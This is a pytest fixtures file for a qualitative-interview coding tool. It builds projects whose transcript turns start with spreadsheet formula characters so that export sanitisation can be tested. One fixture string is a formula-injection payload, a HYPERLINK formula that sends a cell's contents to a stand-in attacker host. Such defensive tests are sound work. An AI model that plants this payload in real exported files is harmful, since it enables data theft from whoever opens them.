"""Fixtures for hostile input: the generators of bench/hostile_files.py and a coded project."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from qualcode.store import Store

BENCH = Path(__file__).resolve().parents[2] / "bench"
if str(BENCH) not in sys.path:
    sys.path.insert(0, str(BENCH))

import hostile_files  # noqa: E402

#: Turns that a spreadsheet would run as formulas (fictional, in spoken Norwegian).
FORMULA_TURNS = [
    '=HYPERLINK("http://evil.example/?x="&A1; "klikk her")',
    "+47 er retningsnummeret, altså, det sa han",
    "-ja, det er vel sånn det er",
    "@alle i klyngen fikk den e-posten",
]


@pytest.fixture
def make() -> Any:
    """The hostile file generators (bench/hostile_files.py)."""
    return hostile_files


@pytest.fixture
def cli(runner: Any, ingested: Store) -> Callable[..., Any]:
    """Run the CLI on the ingested small corpus: ``cli("export", "codings", ...)``."""
    from qualcode.cli.main import app

    def invoke(*args: str, input: str | None = None) -> Any:
        return runner.invoke(app, ["--project", str(ingested.folder), *args], input=input)

    return invoke


@pytest.fixture
def formula_project(project: Store, tmp_path: Path, make_codes: Any) -> Store:
    """A project whose turns and a memo start with formula characters, coded by kari and ola."""
    from qualcode.ingest import ingest_paths
    from qualcode.recode import recode

    folder = tmp_path / "formler"
    folder.mkdir()
    lines = ["I: Hva skjedde på samlingen?"] + [f"R1: {t}" for t in FORMULA_TURNS]
    (folder / "R1.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    ingest_paths(project, [folder], command="test: ingest")
    make_codes(project, ["tillit", "fasilitering"])
    ids = [r[0] for r in project.conn.execute("SELECT id FROM segments WHERE role = 'respondent'")]
    recode(project, ids, "kari", add=["tillit"], memo="=1+1 sa hun, og så lo alle")
    recode(project, ids[:2], "ola", add=["fasilitering"])
    from qualcode.progress import mark_done

    for coder in ("kari", "ola"):  # agreement and disagreements count finished transcripts only
        mark_done(project, ["R1.txt"], coder)
    return project


@pytest.fixture(autouse=True)
def _no_coder_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """Tests choose the coder themselves."""
    monkeypatch.delenv("QUALCODE_CODER", raising=False)
    monkeypatch.delenv("QUALCODE_PROJECT", raising=False)


@pytest.fixture
def content() -> Callable[[Store], dict[str, list[tuple[Any, ...]]]]:
    """The store's content without the append-only history (commands, audit log)."""

    def dump(store: Store) -> dict[str, list[tuple[Any, ...]]]:
        return {k: v for k, v in store.dump().items() if k not in ("commands", "audit_log")}

    return dump
